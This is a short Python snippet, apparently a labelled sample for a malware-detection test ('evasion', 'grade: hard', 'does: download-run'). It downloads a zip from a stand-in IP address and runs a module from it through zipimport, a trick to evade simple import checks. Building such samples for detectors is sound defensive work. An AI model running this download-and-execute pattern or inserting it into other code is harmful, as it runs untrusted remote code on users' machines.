# evasion: a downloaded zip imported with zipimport
# grade: hard; does: download-run
import zipimport, urllib.request
urllib.request.urlretrieve("http://203.0.113.5/m.zip", "/tmp/m.zip")
zipimport.zipimporter("/tmp/m.zip").load_module("m")
